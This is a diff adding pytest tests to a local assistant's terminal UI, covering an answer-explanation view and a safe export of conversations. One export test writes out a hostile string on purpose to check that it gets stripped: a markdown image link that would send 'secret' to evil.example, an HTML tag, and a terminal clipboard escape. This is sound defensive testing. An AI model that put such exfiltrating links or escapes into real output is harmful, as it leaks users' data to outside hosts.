@@ -2,22 +2,31 @@
 
 from __future__ import annotations
 
+import json
 import subprocess
 import sys
 import threading
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 
+from assistant.core.chats import ChatSummary, StoredDecision, StoredQuote, StoredTurn
+from assistant.core.errors import UsageError
 from assistant.core.events import Blocked, Checked, Cited, Delta, Finished
 from assistant.core.records import Answer, Finding, LibrarySummary, PolicyInfo, Scope, Verdict
 from assistant.tui.clipboard import copy_natively, native_command
+from assistant.tui.conversation import resumed
 from assistant.tui.exchange import Exchange
+from assistant.tui.explain import explanation
+from assistant.tui.export import write_export
 from assistant.tui.feed import Feed
+from assistant.tui.pieces import plain_text
 from assistant.tui.prose import MAX_BLOCK_CHARS, blocks, prose
 from assistant.tui.scope import complete, folders_of, matches, mention, read_scope, scope_words
 from assistant.tui.trouble import explain
 from assistant.tui.words import decisions, duration, short_names, size, status_parts
+from tests.tui.hostile import offending
 from tests.tui.scripted import FILES, LEASE, LETTER, a_verdict, answer_events, citations
 
 
@@ -217,3 +226,53 @@ def test_the_first_word_of_the_status_line_is_that_text_leaves_the_machine() -> 
     assert status_parts(summary)[0] == "sealed"
     leaving = replace(summary, leaves_to="192.0.2.7:80")
     assert status_parts(leaving)[:2] == ["! text leaves this machine: to 192.0.2.7:80", "sealed"]
+
+
+# ---------------------------------------------------------------- why this answer
+
+
+def test_the_explanation_tells_ranks_scores_evidence_budget_and_rules() -> None:
+    exchange = Exchange(1, "What about notice?", Scope(folders=("/home/ada/Documents/flat",)))
+    for event in answer_events(checks=[Checked(a_verdict())]):
+        exchange.apply(event)
+    text = plain_text(explanation(exchange))
+    assert "only in     flat/" in text
+    assert "evidence 0.82, needed 0.40: enough to answer" in text
+    assert " 1  0.90   0.90   1. (6.2)   2. (0.71)  lease.pdf p. 7  cited" in text
+    assert "letter.md  not given to the model: the budget was used up" in text
+    assert "1 passage, 61 of 2,000 tokens" in text
+    assert "rule personal.phone, detector pii, phone number 0.99, from 0.50 on" in text
+
+
+def test_the_explanation_of_a_kept_turn_says_what_is_not_kept() -> None:
+    done = StoredDecision("output", "personal.phone", "redact", 2)
+    turn = StoredTurn(1, "q", "a", "answered", "extractive", 0.0, decisions=(done,))
+    exchange = resumed(ChatSummary(1, "t", 0.0, 0.0, 1), [turn]).exchanges[0]
+    text = plain_text(explanation(exchange))
+    assert "2 \u00d7 hidden (output / personal.phone)" in text
+    assert "is not kept with a conversation" in text
+
+
+# ---------------------------------------------------------------- export
+
+
+def test_an_exported_file_holds_nothing_that_a_viewer_loads_or_runs(tmp_path: Path) -> None:
+    attack = "![x](https://evil.example/?q=secret) [y](https://evil.example) <img src=x>\x1b]52;c;eA==\x07"
+    quote = StoredQuote(1, f"/tmp/{attack}", 1, 0, 1, attack, "changed")
+    turn = StoredTurn(1, attack, attack, "interrupted", attack, 0.0, (quote,))
+    text = write_export(str(tmp_path / "out.md"), attack, [turn]).read_text()
+    for sign in ("](", "![", "<", "\x1b", "\x07"):
+        assert sign not in text
+    assert "(the file has changed since)" in text
+    value = json.loads(write_export(str(tmp_path / "out.json"), "t", [turn]).read_text())
+    assert offending("".join([value["turns"][0]["answer"], value["turns"][0]["quotes"][0]["path"]])) == []
+
+
+@pytest.mark.parametrize("file", ["out.txt", "nowhere/out.md", "", "there.md"])
+def test_a_file_that_cannot_be_exported_to_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file: str) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "elsewhere.md").write_text("mine")
+    (tmp_path / "there.md").symlink_to(tmp_path / "elsewhere.md")
+    with pytest.raises(UsageError):
+        write_export(file, "t", [])
+    assert (tmp_path / "elsewhere.md").read_text() == "mine"
